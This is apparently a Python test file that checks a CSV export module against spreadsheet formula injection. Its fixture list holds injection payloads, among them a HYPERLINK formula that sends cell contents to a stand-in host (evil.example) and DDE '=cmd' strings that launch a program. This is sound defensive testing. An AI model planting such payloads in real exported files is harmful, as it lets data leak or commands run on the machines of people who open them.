"""CSV cells: nothing that somebody typed begins a formula, and everything reads back."""

import csv
import io
import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from replays import csv_cells

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]
texts = st.text(alphabet=st.sampled_from("=+-@＝'\";,\t\r\n a3日"), max_size=12)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text(formula: str) -> None:
    assert str(csv_cells.cell(formula)).startswith("'")


@pytest.mark.parametrize("separator", [";", "\t", "\n"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_behind_the_separator_of_another_spreadsheet_is_text_too(separator: str, formula: str) -> None:
    written = str(csv_cells.cell(f"nice{separator}{formula}"))
    assert not [part for part in re.split(r"[;\t\r\n]", written)[1:] if part.lstrip().startswith(("=", "+", "-", "@"))]


@given(texts)
def test_every_text_reads_back_through_csv(typed: str) -> None:
    (row,) = csv.reader(io.StringIO("".join(csv_cells.lines([[typed, "other"]])), newline=""))
    assert [csv_cells.text(cell) for cell in row] == [typed, "other"]


def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
    assert "".join(csv_cells.lines([(-3, -0.5, None, "-3")])) == "-3,-0.5,,'-3\r\n"


def test_rows_are_written_as_they_come() -> None:
    def rows() -> Iterator[list[int]]:
        yield [1]
        raise RuntimeError("the second row was asked for too early")

    assert next(csv_cells.lines(rows())) == "1\r\n"


def test_a_very_long_text_reads_back() -> None:
    blank = "\n" * 200_000 + " " * 200_000 + ";" * 200_000
    assert csv_cells.text(str(csv_cells.cell(blank))) == blank
